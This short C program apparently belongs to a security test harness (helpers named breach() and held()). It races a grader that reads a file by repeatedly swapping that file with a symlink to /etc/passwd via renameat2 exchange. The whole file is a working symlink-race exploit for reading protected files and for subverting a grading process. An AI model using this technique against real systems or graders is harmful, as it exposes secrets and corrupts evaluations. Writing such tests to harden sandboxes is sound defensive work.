/* A file that is a link to a secret every other moment, while the grader reads. */
#include "attack.h"

#include <fcntl.h>
#include <sys/syscall.h>

int main(void)
{
	int fd = open("/tmp/left", O_CREAT | O_WRONLY, 0600);

	if (fd < 0 || symlink("/etc/passwd", "/tmp/link") < 0)
		breach("%s", strerror(errno));
	for (int i = 0; i < 200000; i++) {
		if (syscall(SYS_renameat2, AT_FDCWD, "/tmp/left", AT_FDCWD, "/tmp/link", 2 /* EXCHANGE */) < 0)
			breach("%s", strerror(errno));
		if (i % 100 == 0)
			dprintf(1, ".");
	}
	held();
}
